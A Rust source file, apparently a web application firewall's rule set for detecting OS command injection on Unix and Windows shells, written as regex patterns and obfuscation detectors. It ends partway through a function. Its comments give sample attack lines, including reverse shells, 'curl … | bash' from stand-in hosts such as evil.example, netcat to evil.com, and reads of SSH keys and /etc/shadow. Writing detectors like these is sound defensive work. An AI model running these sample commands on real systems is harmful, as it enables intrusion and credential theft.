//! OS command injection rules (932xxx), Unix and Windows shells.
//!
//! Commands that are also English words (`cat`, `sort`, `type`, `more`) only count
//! with arguments that look like a command line (flags, paths, addresses).
use super::pipelines::*;
use super::targets::*;
use super::{Category::Rce, Check::*, RuleDef, Severity::*, rule};

/// Commands that are almost never prose after a shell separator.
macro_rules! strong_cmds {
    () => {
        r"(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|systeminfo|tasklist|taskkill|certutil|bitsadmin|powershell|pwsh|cmd(?:\.exe)?|wmic|mshta|rundll32|regsvr32|cscript|wscript|schtasks|traceroute|tracert|printenv|xxd|crontab|mkfifo|socat|nohup|chown|useradd|getent|lsb_release|busybox|netsh|lastlog)"
    };
}

/// Commands that need command-like arguments to count.
/// Short commands that are also words (`id`, `ls`): they count when nothing but
/// another separator or the end follows them (`; id`, `|ls|`).
macro_rules! terminal_cmds {
    () => {
        r"(?:id|ls|pwd|env|ps|w|who|hostname|dir|ver|vol|uptime|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|sysinfo|tasklist|printenv|set|date|groups|last|lsmod|mount|df|arp|route)"
    };
}

macro_rules! weak_cmds {
    () => {
        r"(?:cat|tac|nl|head|tail|more|less|echo|ping|sleep|dir|type|find|grep|egrep|sort|kill|killall|rm|cp|mv|touch|mkdir|rmdir|python[\d.]*|perl|ruby|php|node|lua|bash|sh|zsh|ksh|dash|nc|ps|env|net|sc|reg|del|copy|start|awk|sed|base64|dd|telnet|ssh|scp|ftp|tftp|sudo|su|eval|exec|timeout|openssl|java|tar|zip|unzip|gzip|xargs|uniq|cut|tr|tee|od|strings|host|dig|arp|route|who|w|last|uptime|df|du|free|mount|systemctl|service|iptables|chmod|chown|curl|wget|ls|id|uname|whoami|vi|vim|nano|file|stat|readlink|lsof|fuser|printf|export|unset|source|nmap|cmd|powershell)"
    };
}

/// cmd.exe's commands that a batch condition runs (932141).
macro_rules! batch_cmds {
    () => {
        "(?:echo|set|goto|call|cmd|exit|del|copy|start|cd|md|rd|type|ren|move|pause|if|for)"
    };
}

/// The start of a cmd.exe condition and the tests only batch writes: a file
/// that exists, a variable defined, an exit code (932141). The comparisons
/// follow it in the rule.
macro_rules! batch_if_test {
    () => {
        r##"\bif\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S*[^\s,.;:]|(?:errorlevel|cmdextversion)\s+\d+"##
    };
}

/// What follows a command substitution's closing backtick: the end, a word or an
/// option glued to it (`` --exec=`id`--remote ``), or shell punctuation; not
/// prose (`` `id` is the key``, `` `ls`, `cat` ``, `` (`id`) ``, `` `id`'s ``),
/// which is markdown's inline code.
macro_rules! backtick_close {
    () => {
        r#"(?:\s*$|[\w/-]|\s*(?:[;|&<>"$`#]|'(?:$|[^a-z])))"#
    };
}

pub(super) fn rules() -> Vec<RuleDef> {
    vec![
        rule(
            932190,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            Detector(obfuscated_command, PREFILTER),
            "Command hidden by shell quoting or by expansions that are empty",
        ),
        rule(
            932100,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(concat!(
                // A separator right after `(` is code (`f(&set)`, `(&cmd, x)`): no
                // shell takes it.
                r"(?:(?:^|[^(])[;|&\n\r]|\$\()\s*(?:[({]\s*)?(?:[\w./-]*/)?",
                strong_cmds!(),
                r"(?:\s|$|[;|&<>`)}#,])|(?:(?:^|[^(])[;|&]|\$\()\s*(?:[({]\s*)?(?:exec\s+)?(?:[\w./-]*/)?",
                terminal_cmds!(),
                // A backtick right after the command closes a substitution
                // (`;id``); after a space it opens markdown's code (`; set `X``).
                r"(?:`|\s*(?:$|[|&)#]|;\s*$|>>?\s*[/\w.~]|<\s*/))",
                // In backticks: a command substitution, unless prose follows the
                // closing backtick (markdown's `id` is the key, `ls`, `cat`).
                r"|(?:^\s*|[^\s`])`\s*(?:exec\s+)?(?:[\w./-]*/)?(?:",
                strong_cmds!(),
                r"(?:\s[^`]*)?|",
                terminal_cmds!(),
                r"(?:\s+[-<>][^`]*)?)\s*(?:$|`",
                backtick_close!(),
                r")",
                // `$(`ls`)`: substitution inside substitution.
                r"|\$\(\s*`\s*(?:[\w./-]*/)?(?:",
                strong_cmds!(),
                "|",
                terminal_cmds!(),
                r")\b[^`]*`\s*\)"
            )),
            "Unix command after a shell separator",
        ),
        rule(
            932105,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(concat!(
                r"(?:[;|&\n\r]|\$\(|[^\s`]`)\s*(?:[({]\s*)?(?:sudo\s+)?(?:[\w./-]*/)?",
                weak_cmds!(),
                r"\s+(?:-{1,2}[a-z]|/[a-z.~?*]|~/|\.{1,2}/|\$[({a-z]|[a-z]:\\|\\\\|(?:\d{1,3}\.){3}\d{1,3}|\d+\s*(?:$|[;|&`#])|https?://|\w+\.(?:txt|sh|py|php|pl|exe|conf|log|ini|bat|ps1)\b|aux\b|-ef\b|<\s*/|>\s*/)",
                // A program that reads its input, fed from a file: `&sort <
                // file.txt`, `;nc x 1<~/.ssh/id_rsa`.
                r"|(?:[;|&\n\r]|\$\()\s*(?:sort|cat|tac|head|tail|grep|egrep|uniq|wc|base64|xxd|od|tr|cut|awk|sed|nc|ncat|netcat|bash|sh|zsh|python[\d.]*|perl|php|ruby|mail|mysql|psql|bcdboot)(?:\s+[^\s;|&<>]+)*\s*\d?<\s*[\w.-]*[a-z~/][\w~./-]*(?:\s|$|[;|&])",
            )),
            "Command line with command-like arguments after a separator",
        ),
        rule(
            932106,
            Rce,
            1,
            Warning,
            ATTACK,
            CMD,
            Regex(concat!(
                r"^\s*(?:[({]\s*)?(?:sudo\s+)?(?:[\w./-]*/)?",
                weak_cmds!(),
                r"\s+(?:-{1,2}[a-z]|/[a-z.~?*]|~/|\.{1,2}/|\$[({a-z]|[a-z]:\\|\\\\|(?:\d{1,3}\.){3}\d{1,3}|\d+\s*(?:$|[;|&`])|https?://|\w+\.(?:txt|sh|py|php|pl|exe|conf|log|ini|bat|ps1)\b|aux\b|-ef\b|<\s*/|>\s*/)"
            )),
            "Value is a command line (scores, does not block alone)",
        ),
        rule(
            932107,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // The whole value is a reconnaissance command with options, or a file
            // command on a system directory: `netstat -an`, `ls -lh /etc/`; also
            // after a lone separator or input redirect (`<uname -a;`, `|netstat -an`);
            // or an address, a separator and a command (`127.0.0.1|echo x`): a
            // ping parameter broken out of.
            Regex(concat!(
                r"^\s*(?:\d{1,3}\.){3}\d{1,3}\s*(?:[;|&`\n]|\$\()+\s*",
                weak_cmds!(),
                r"\b|^\s*(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|lastlog)(?:\.exe)?(?:[;&`]\S|\$\(|\s*[;|&`]+\s*$)|^\s*(?:[\w./-]*/)?ping(?:\.exe)?\s+(?:-[a-z]+\s+(?:\d+\s+)?)*(?:localhost|127\.0\.0\.1)\b|^\s*(?:[<;|&]\s*)?(?:netstat|ifconfig|ipconfig|whoami|uname|systeminfo|tasklist|netsh|nslookup|traceroute|tracert|getent|lsb_release)(?:\.exe)?\s+[-/]\w|^\s*(?:sudo\s+)?",
                weak_cmds!(),
                r"\s+(?:-{1,2}\w+\s+)*/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
                // An archiver or a copy off the host given a system directory
                // after its other arguments (`tar -xzf /var/www/x.tgz /etc`,
                // `tar czf /tmp/x.tgz /etc`).
                r"|^\s*(?:sudo\s+)?(?:tar|zip|7z|rsync|scp)\s+(?:[^\s;|&]+\s+){0,6}/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
                // A program of a system directory reading a system file:
                // `/bin/zcat -f /etc/shadow.gz`; logs are ops' daily reading.
                r"|^\s*/(?:usr/(?:local/)?)?s?bin/[\w.-]+\s+(?:-{1,2}\w+\s+)*/(?:etc|proc|root|boot|dev)/",
                // A program of a system directory, then a separator: `/usr/bin/id|`.
                r"|^\s*/(?:usr/(?:local/)?)?s?bin/[\w.-]+[^|;&\n]*[|;&\n]"
            )),
            "Value is a system command line",
        ),
        rule(
            932113,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // The value opens with a shell separator or redirect and is then one
            // short command line: `;echo vulnerable`, `| nc evil.com 80`,
            // `& start calc`, `;kill -9 1`, `<sleep 5;`. Text does not begin with
            // `;`, `|` or `&` and a command; a markdown table row (`| echo | … |`)
            // has more pipes than a command line's words allow. Commands that are
            // also words (`start`, `kill`, `find`) need an option, a path, a number
            // or a program after them.
            Regex(concat!(
                r"^\s*(?:[;|&]{1,2}|<)\s*(?:sudo\s+)?(?:[\w./-]*/)?(?:",
                r"(?:echo|printf|expr|dig|nc|ncat|netcat|nslookup|killall|pkill|reboot|shutdown|halt|poweroff|passwd|history|getfacl|setfacl|eval|exec|osascript|xdg-open|calc|notepad|mspaint|xcalc|dd|chmod|chattr|rm|ping|sleep|bash|sh|zsh|ksh|python[\d.]*|perl|ruby|php|node|lua|curl|wget|telnet|ssh|scp|ftp|tftp|base64|sed|awk|grep|egrep|tac|xargs|od|strings|lsof|nmap|cmd|powershell|pwsh|uname|whoami|id|ls|cat|pwd|env|ps|hostname|uptime|ifconfig|ipconfig|netstat|systeminfo|tasklist|ver)(?:\.exe)?",
                r"(?:\s+[^\s;|&<>`]+){0,6}",
                r"|(?:start|open|kill|init|find|type|head|tail|touch|cp|mv|copy|del|mkdir|net|reg|sc|set|timeout)",
                r"(?:\s+[^\s;|&<>`]+){0,5}\s+(?:-{1,2}[a-z0-9]|/|[a-z]:\\|~|\d|(?:calc|notepad|mspaint|cmd|powershell)\b)[^\s;|&<>`]*(?:\s+[^\s;|&<>`]+){0,5}",
                r")\s*(?:[;&#]\s*)?$"
            )),
            "Value is a command line after a shell separator",
        ),
        rule(
            932111,
            Rce,
            2,
            Critical,
            ATTACK,
            CMD,
            // The whole value is a time delay, alone or after a separator or redirect:
            // `sleep 5`, `<sleep 5;`, `|timeout /t 5`. Blind command injection probes
            // for it; "sleep 8 hours" goes on.
            Regex(
                r"^\s*(?:[<;|&`]\s*)?(?:sleep\s+\d+(?:\.\d+)?[smh]?|timeout\s+/t\s+\d+)\s*[;|&`#]?\s*$",
            ),
            "Value is a shell time delay",
        ),
        rule(
            932104,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            Detector(named_command_run, b"="),
            "A command's name stored in a variable or alias, then run by that name",
        ),
        rule(
            932108,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            // A variable assigned and then run as the command (`CMD=$'id';$CMD`),
            // ANSI-C quoting next to a separator, or a command glued from variables
            // after a separator (`;a=i;b=d;$a$b`), its arguments variables too
            // (`c=cat&&$c $a$b`): shell, never prose.
            Regex(
                r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?(?:\s+(?:\$\{?[a-z_]\w*\}?)+)*\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}|[;|&]\s*(?:\$\{?[a-z_]\w*\}?){2,}\s*(?:$|[;|&#])"##,
            ),
            "Shell variable or ANSI-C quoted command",
        ),
        rule(
            932109,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // The whole value is a network probe at an address: `ping -c 3 10.0.0.1`,
            // `nslookup -q=txt 1.2.3.4`; or input redirected from a strong command.
            Regex(concat!(
                r"^\s*(?:ping|ping6|nslookup|dig|host|traceroute|tracert|telnet|nc|ncat|netcat|curl|wget)\s+(?:-{1,2}[\w=-]+\s+(?:\d+\s+)?)*(?:\d{1,3}\.){3}\d{1,3}\b|(?:^|[;|&])\s*<\s*",
                strong_cmds!(),
                r"\s*(?:$|[;|&])"
            )),
            "Value is a network probe command",
        ),
        rule(
            932112,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // Reconnaissance that only a shell writes: `find` on a directory with a
            // test (`find / -perm -4000`), as the value or after a separator; network
            // state (`ip addr`, `ss -tlnp`, `lsof -i`) after a separator.
            Regex(
                r"(?:^|[;|&\n\r`]|\$\()\s*(?:sudo\s+)?find\s+[/.~]\S*\s+(?:\S+\s+)*?-(?:name|iname|perm|type|user|group|newer|writable|readable|executable|exec|size|mtime|uid|gid|regex)\b|(?:[;|&\n\r`]|\$\()\s*(?:sudo\s+)?(?:ip\s+(?:-\w+\s+)*(?:a|addr|address|r|route|l|link|n|neigh|neighbou?r)(?:\s+(?:show|list|ls))?|ss\s+-[a-z]*[tulp][a-z]*|lsof\s+-i\w*|arp\s+-an?|iptables\s+-[ls]\w*)\s*(?:$|[;|&`#)])",
            ),
            "Reconnaissance command",
        ),
        rule(
            932115,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // The whole value is one short command line whose output is piped
            // into a shell: `time whoami | sh`, `echo "foo;whxam"i | tr x o | sh
            // #`, `curl -s http://evil.example/x | bash`. Prose does not pipe.
            Regex(
                r##"^[^|\n]{1,80}(?:\|[^|\n]{1,40}){0,2}\|\s*(?:sudo\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|k|da|c|tc)?sh\s*(?:-[a-z]+\s*)*(?:#.*|`+)?\s*$"##,
            ),
            "Value is a command line piped into a shell",
        ),
        rule(
            932116,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // A here-string fed to a command at the start of the value or after a
            // separator: `cat<<<ifconfig|sh`, `;gcc10.1<<<void main(){}`,
            // `;irb<<<1`. Bash syntax only; a merge conflict marker
            // (`<<<<<<< HEAD`) has no word right before its last three `<`.
            Regex(r##"(?:^|[;&|`]\s*)[a-z][\w.+-]*\s*<<<\s*[^<\s]"##),
            "Here-string fed to a command",
        ),
        rule(
            932117,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            // A reconnaissance command run through another program: a wrapper
            // (`nohup ifconfig`, `strace whoami`) as the whole value, or, after a
            // separator, as the last word of another command's options
            // (`;cpulimit -l 100 -f whoami`, `;gdb -nx -ex !whoami -ex quit`).
            Regex(
                r##"^\s*(?:[;|&]{1,2}\s*)?(?:time|strace|ltrace|nohup|nice|setsid|stdbuf|unbuffer|timeout\s+\d+[smh]?)\s+(?:whoami|ifconfig|ipconfig|uname|netstat|systeminfo|tasklist)(?:\s+-{1,2}[a-z]+)*\s*[;&#]?\s*$|^\s*[;|&]{1,2}\s*[a-z][\w.+-]*(?:\s+[^\s;|&]+){0,6}?\s+[\\!]?(?:whoami|ifconfig|ipconfig|systeminfo)\b(?:\s+-[a-z]+(?:\s+\w+)?)*\s*$"##,
            ),
            "Reconnaissance command run through another program",
        ),
        rule(
            932114,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            // A one-liner that hands a request parameter to a command or code sink
            // (`os.system(request.args.get('cmd'))`, `IO.popen(params[:cmd])`,
            // `eval(req.query.code)`, `.Exec(Request("cmd"))`), a shell object
            // created from script, or a Perl pipe open (`open(CMD,"$input|")`).
            Regex(
                r##"(?:\b(?:os\.(?:system|popen|exec\w*|spawn\w*)|subprocess\.\w+|commands\.getoutput|kernel\.\w+|io\.popen|open3\.\w+|system|exec|execsync|spawn\w*|eval|instance_eval|class_eval|compile|popen|shell_exec|passthru|getruntime\(\)\.exec|process\.start)\s*\(\s*(?:[\w.]+\s*\(\s*)*(?:request\.(?:args|form|values|params|get|post|json|data|cookies|headers|querystring|query|body|getparameter)\b|request\s*\(|params\s*\[|req\.(?:query|body|params|cookies|headers)\b|\$input\b|cgi\.))|\bcreateobject\s*\(\s*["']?(?:wscript\.shell|shell\.application)|\bopen\s*\(\s*\w+\s*,\s*["'](?:\|[^"']*|[^"']*\|\s*)["']"##,
            ),
            "Code or command sink fed by a request parameter",
        ),
        rule(
            932200,
            Rce,
            1,
            Critical,
            ATTACK,
            XSS,
            Regex(
                r##"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\s+\w+\s*=|<esi:(?:include|inline|vars|eval|debug|assign|choose|try)\b"##,
            ),
            "Server-side or edge-side include directive",
        ),
        rule(
            932210,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            // YAML tags that make a loader build objects of the language's own
            // classes: PyYAML's `!!python/object/new:exec`, Ruby's
            // `!ruby/object:Gem::Installer`, SnakeYAML's `!!javax.script.…`.
            Regex(
                r##"!!python/(?:object(?:/(?:apply|new))?|name|module):|!ruby/(?:object|hash|struct|marshalable):|!!(?:javax?|com|org|sun|jdk)\.[\w$]+\.[\w$.]+"##,
            ),
            "Deserialization: YAML tag that builds a language object",
        ),
        rule(
            932110,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(
                r##"(?:^|[;|&\n\r(`])\s*(?:cmd(?:\.exe)?\s+/[ckr]|powershell(?:\.exe)?\s+-|net\s+(?:user|localgroup|view|share|use|group|accounts)\b|(?:type|dir|copy|del|more)\s+[a-z]:|ping\s+-n\s+\d|reg\s+(?:query|add|delete|save)\b|wmic\s+\w|sc\s+(?:query|create|start|config)\b|certutil(?:\.exe)?\s+-|bitsadmin(?:\.exe)?\s+/|vssadmin\s|whoami\s+/|netsh\s+(?:firewall|advfirewall|interface|int|wlan|winhttp)\b|waitfor\s+(?:/si\s+)?(?:[\w.-]+\s+)?/t\s+\d|choice\s+(?:/[a-z]+(?::\S+)?\s+(?:\S+\s+)?)*?/t\s*[:\s]?\d)|%(?:comspec|systemroot|windir|programfiles|userprofile)%|[a-z]:\\windows\\system32\\"##,
            ),
            "Windows command",
        ),
        // cmd.exe's loop and condition (CRS's 932140). A loop names its variable
        // with `%` (`for /f %a in (x) do calc`), which no prose or other language
        // writes. A condition tests what only batch tests (`if exist x`, `if not
        // defined x`, `if errorlevel 1`), compares batch operands (`%a%`, a
        // number) with batch's words (`equ`, `gtr`; LaTeX's `\geq` loses its
        // backslash in the shell reading), or compares with `==`; then it runs a
        // batch command. C, JS and Python compare inside parentheses or end the
        // operand with `:`, and call or assign after it (`if (x == 1) exit(1);`,
        // `if x == 1: start()`). The shell reading has dropped the quotes
        // (`if "%x%"=="a" echo` reads `if %x%==a echo`).
        rule(
            932141,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(concat!(
                // A loop runs any command (`do calc`); a format string's
                // `for %s in (%s) do %s` runs none.
                r##"\bfor\s+(?:/[dlrf]\b[^%\n]{0,80})?%%?[\w~/\-]*\s+in\s*\([^)\n]*\)\s*do(?:\s*[@(^&!]|\s+[\w"]|\s+%%|\s+%[a-ce-rt-z~])"##,
                "|",
                batch_if_test!(),
                r##"|\(?\s*(?:%[^%\s]+%|![^!\s]+!|-?\d+|\[[^\]\s]*\])\s+(?:equ|neq|lss|leq|gtr|geq)\s+[^\s()]+\s*\)?"##,
                // An empty right side is the shell reading's `""`:
                // `if "%v%"=="" (set v=1)`.
                r##"|(?:\([^)\s]*\)|[^\s()]+)\s*==\s*(?:\([^)\s]*\)|[^\s()]*[^\s():])?)\s+"##,
                // Then a command, with an argument or none; `exit(1)` and `type
                // =` are C, JS and Python.
                r##"(?:@\S|\(\s*(?:@|"##,
                batch_cmds!(),
                r##"\b)|"##,
                batch_cmds!(),
                r##"(?:\s+[^\s(=;]|\s*$))"##,
                // Or a block opened at the line's end after a test only batch
                // writes (`IF EXIST x (`, `if not "A%1" == "A" (`); `if x == y
                // (` is pseudo-code.
                "|",
                batch_if_test!(),
                r##"|\(?\s*(?:%[^%\s]+%|![^!\s]+!|-?\d+)\s+(?:equ|neq|lss|leq|gtr|geq)\s+[^\s()]+\s*\)?"##,
                r##"|[^\s()]*[%!][^\s()]*\s*==\s*[^\s()]*)\s+\(\s*$"##,
            )),
            "Windows batch FOR loop or IF condition",
        ),
        rule(
            932120,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(
                r##"(?:^|[;|&\n\r(`])\s*(?:iwr|irm|iwmi|icm)\s+(?:https?://|-[a-z])|\b(?:invoke-(?:expression|webrequest|restmethod|wmimethod|command|shellcode|mimikatz)|iex\s*\(|new-object\s+(?:net\.webclient|system\.net)|downloadstring\s*\(|downloadfile\s*\(|start-process\b|-encodedcommand\b|-enc\s+[a-z0-9+/=]{16,}|frombase64string\s*\(|set-mppreference\b|start-sleep\s+(?:-s(?:econds)?\s+|-m(?:illiseconds)?\s+)?\d|get-wmiobject\b|(?:get-content|get-childitem)\s+[a-z]:)|[;|&]\s*get-(?:help|process|service|host|location|command)\b"##,
            ),
            "PowerShell command",
        ),
        rule(
            932130,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(concat!(
                // `$(id)`, and a process substitution standing as a word, closed,
                // with a command alone or before its arguments (`<(cmd)`,
                // `>(nc x 1)`; not `i<(last-1)`, `>( who does`).
                r"(?:^|[\s;|&])[<>]\(\s*(?:[\w./-]*/)?['\x22]?",
                weak_cmds!(),
                r"['\x22]?(?:\s[^()]*)?\)|\$\(\s*(?:[\w./-]*/)?",
                weak_cmds!(),
                r#"\b|\$\{ifs\}|\$ifs\b|\$\{(?:path|home|shell|pwd):\d|(?:^|[=;|&\w'"])`(?:[\w./-]*/)?"#,
                weak_cmds!(),
                r"\b[^`]*`",
                backtick_close!(),
                r"|\{\s*(?:cat|ls|id|echo|wget|curl|nc|bash|sh),[^}]*\}",
                // An empty first element is brace expansion's alone:
                // `{,ifconfig}`, `{,$'whoami',}`.
                r"|\{,+\$?['\x22]?(?:[\w./-]*/)?(?:",
                strong_cmds!(),
                "|",
                weak_cmds!(),
                r")\b",
                // The shell fed its own script (`$0<<<$'\151\144'`), and characters
                // written as base-N arithmetic (`$((2#1100011))`).
                r"|\$0\s*<<<|\$\(\(\s*(?:\d{1,2}|\$\(\(\s*1\s*<<\s*\d\s*\)\))\s*#\s*[0-9a-z]{1,64}\s*\)\)"
            )),
            "Shell command substitution or expansion",
        ),
        rule(
            932140,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(
                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|--checkpoint-a[a-z]*[=\s]+exec\b|(?:\b(?:(?:ba|z|k|da)?sh(?:\s+-\S*)*\s*<?|source)|(?:^|[;|&])\s*\.)\s*/(?:\./)*(?:tmp|var/tmp|dev/shm)/|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
            ),
            "Reverse shell or remote script execution",
        ),
        rule(
            932150,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(
                r##"(?:/(?:[a-z*]*\?[a-z?*]*|[a-z]+\*[a-z?*]*|\*+[a-z?][a-z?*]*)){2,}|(?:/\*+){3,}/|/(?:bin|sbin|usr|etc|dev|proc|tmp)/[a-z]*[?*]|[a-z]+[?*]/(?:etc|bin|tmp|dev|proc)/|/\?{2,}/|\b(?:c|ca|w|wh|who|i|l|u)\?{1,}[a-z]*\s+/"##,
            ),
            "Shell glob obfuscation",
        ),
        rule(
            932160,
            Rce,
            1,
            Critical,
            ATTACK,
            CMD,
            Regex(
                r##"\b(?:cat|tac|nl|head|tail|more|less|type|strings|xxd|od|base64|grep|awk|sed|vi|vim|nano|cp|mv|curl|wget|sort|uniq|rev|paste|diff|file)(?:\s+|\s*<\s*)[^\s;|&]*(?:/etc/(?:passwd|shadow|hosts|group|issue)|/proc/self|win\.ini|boot\.ini|\.bash_history|\.ssh/)"##,
            ),
            "Command reading a sensitive file",
        ),
        rule(
            932170,
            Rce,
            1,
            Critical,
            ATTACK,
            DEC,
            // Anywhere, `() { :; };`; as the value's start, any function body
            // closed (`() { _; } >_[$($())] { … }`, the later Shellshock CVEs).
            Regex(r##"\(\s*\)\s*\{\s*[^}]*;\s*\}\s*;|^\s*\(\s*\)\s*\{[^}]*\}"##),
            "Shellshock function definition",
        ),
        rule(
            932180,
            Rce,
            1,
            Critical,
            FILE_NAMES,
            DEC,
            Regex(
                r##"\.(?:php\d?|phtml|phar|pht|jsp|jspx|asp|aspx|asa|cer|cgi|pl|sh|exe|bat|cmd|com|htaccess|shtml)(?:\s|\x00|\.|$)"##,
            ),
            "Upload of an executable file name",
        ),
    ]
}

const FILE_NAMES: u16 = crate::waf::fields::FieldKind::FileName as u16;

/// `w'h'o'am'i`, `wh\oami`, `who^ami`, `c'a't`, `c[a]t`: quoting or a one-letter
/// glob class inside a command word is shell obfuscation, never prose, so a word
/// that becomes a command once they are removed is flagged even without a
/// separator. `I'd` (one quote, two letters) is prose; `I\'d` is the word `I'd`.
pub(super) fn obfuscated_command(s: &str) -> bool {
    let Some(cmd) = COMMAND.as_ref() else {
        return false;
    };
    let s = empty_expansions(s);
    let s = s.as_ref();
    let b = s.as_bytes();
    if !b.iter().any(|&c| is_trigger(c)) {
        return false;
    }
    if !s.is_ascii() {
        return any_word_hides_command(cmd, s);
    }
    // ASCII (nearly every value): only a word with a mark can hide a command, so
    // each mark is found and its word read, rather than splitting the whole value.
    let mut from = 0;
    while let Some(at) = b[from..].iter().position(|&c| is_trigger(c)) {
        let at = from + at;
        let start = b[..at]
            .iter()
            .rposition(|&c| is_separator(char::from(c)))
            .map_or(0, |p| p + 1);
        let end = b[at..]
            .iter()
            .position(|&c| is_separator(char::from(c)))
            .map_or(b.len(), |p| at + p);
        if hides_command(cmd, &s[start..end]) {
            return true;
        }
        from = end;
    }
    false
}

/// `a=nc&&$a -nlvp 555`, `;c='/usr/bin/curl';"$c" x`, `alias q=curl&q x`: a
/// command's name stored in a variable or an alias, then run by that name with
/// an argument. The name run must be the one stored (the regex crate has no
/// backreference, so it is compared here): `alias ll='ls -la'` then `alias
/// gs=…` is a shell's rc file, and `x=1; $x apples` no command. Editors and
/// pagers (`EDITOR=vim; $EDITOR notes.txt`) are how shells are configured.
fn named_command_run(s: &str) -> bool {
    static RE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
        regex::RegexBuilder::new(concat!(
            r#"(?:^|[;|&\n])\s*(export\s+|alias\s+(?:-\w+\s+)*)?['"]?([a-z_][\w.+-]*)['"]?\s*=\s*['"]?(?:[\w./-]*/)?(?:"#,
            strong_cmds!(),
            r"|nc|bash|sh|zsh|ksh|dash|python[\d.]*|perl|ruby|php|node|lua|curl|wget|telnet|ssh|scp|ftp|tftp|base64|id|ls|cat|rm|dd|chmod|nmap|openssl|awk|sed|find|xargs|env|ping",
            r#")\b['"]?(?:[ \t][^;|&\n]*)?\s*(?:;|&&?|\|\|?|\n)\s*(\S+)\s+\S"#
        ))
        .case_insensitive(true)
        .build()
        .ok()
    });
    let Some(re) = RE.as_ref() else {
        return false;
    };
    re.captures_iter(s).any(|c| {
        let (Some(name), Some(run)) = (c.get(2), c.get(3)) else {
            return false;
        };
        let run = run.as_str().trim_matches(|q| q == '"' || q == '\'');
        let name = name.as_str();
        if c.get(1).is_some_and(|k| k.as_str().starts_with(['a', 'A'])) {
            return run == name;
        }
        let var = run.strip_prefix('$').unwrap_or("");
        let var = var
            .strip_prefix('{')
            .and_then(|v| v.strip_suffix('}'))
            .unwrap_or(var);
        !var.is_empty() && var == name
    })
}

/// A whole word that is a command (`obfuscated_command`, once the quoting is out).
static COMMAND: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(concat!(
        r"^(?:[\w./-]*/)?(?:",
        strong_cmds!(),
        "|",
        weak_cmds!(),
        r")$"
    ))
    .ok()
});

/// `obfuscated_command` word by word: every word of the value is split out.
fn any_word_hides_command(cmd: &regex::Regex, s: &str) -> bool {
    s.split(is_separator).any(|w| hides_command(cmd, w))
}

/// What may start obfuscation in a word: shell quoting marks and a glob class.
const TRIGGERS: &[u8] = b"'\"\\^[";

/// The rule's prefilter: a value with none of these is never read. `$`, the
/// backtick, `<` and `>` for [`empty_expansions`].
const PREFILTER: &[u8] = b"'\"\\^[$`<>";

/// `c$@at`, `c$*at`, `c$1at`, `c${x}at`: inside a shell word, `$@` and `$*`
/// (no positional parameters), `$1`..`$9` and an unset variable expand to
/// nothing, and so does an empty command or process substitution (`w$()hoami`,
/// `pi<()ng`, and `` pi``ng `` between two letters: reST and Markdown write
/// ``` ``GET``/``HEAD`` ``` around words): they hide a command the way `''`
/// does, and are read as `''`.
/// (`$$`, `$?`, `$!`, `$-` and `$_` expand to text, and stay.)
fn empty_expansions(s: &str) -> std::borrow::Cow<'_, str> {
    static EMPTY: std::sync::LazyLock<Option<regex::Regex>> =
        std::sync::LazyLock::new(|| regex::Regex::new(r"\$(?:[@*1-9]|\{\w{0,8}\}|\(\))").ok());
    // Between two letters (`pi``ng`, `pi<( )ng`); the letters of one pair are
    // the next pair's too (`p<()i<()ng`), so the value is read again, a few
    // times at most.
    static GLUED: std::sync::LazyLock<Option<regex::Regex>> =
        std::sync::LazyLock::new(|| regex::Regex::new(r"(\w)(?:``|[<>]\(\s*\))(\w)").ok());
    // Ending a word that no backtick opened (`` ping`` 127.0.0.1 ``), read as
    // `''` before its last letter (a quote at a word's end only quotes): only
    // with an odd count of pairs, as reST's ``` ``docker ps`` ``` pairs them.
